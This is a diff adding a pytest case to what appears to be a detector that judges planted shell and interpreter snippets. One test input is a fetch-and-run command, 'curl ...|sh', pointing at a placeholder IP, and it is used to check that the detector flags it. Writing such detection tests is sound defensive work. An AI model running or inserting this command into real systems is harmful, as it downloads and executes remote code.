@@ -129,3 +129,23 @@ def test_a_judgement_of_nothing_is_no_detection():
     found = reading("sh", "-c", "ls")
     assert not judge(found).counts
     assert judge(found, shells=True).counts
+
+
+@pytest.mark.parametrize(
+    ("fields", "does"),
+    [
+        ({"language": "python", "variable": "PYTHONSTARTUP"}, True),
+        ({"language": "python"}, False),
+        ({"language": "shell"}, False),
+        ({"language": "shell", "text": "ls"}, False),
+        ({"language": "shell", "text": "python3 -c 1"}, True),
+        ({"language": "shell", "text": "ls", "variable": "PAGER"}, False),
+        ({"language": "shell", "text": "curl http://192.0.2.1/x|sh"}, True),
+    ],
+    ids=["a variable's", "unseen", "unseen shell text", "plain", "an interpreter", "a variable's plain", "an act"],
+)
+def test_what_is_planted_counts_by_what_it_is_or_does(fields, does):
+    found = reading("sh", "-c", "ls")
+    found.snippets[:] = [Snippet(**{"interpreter": "sh", "vector": "planted", "text": None} | fields)]
+    assert judge(found).counts is does
+    assert counts(found, shells=True) is False
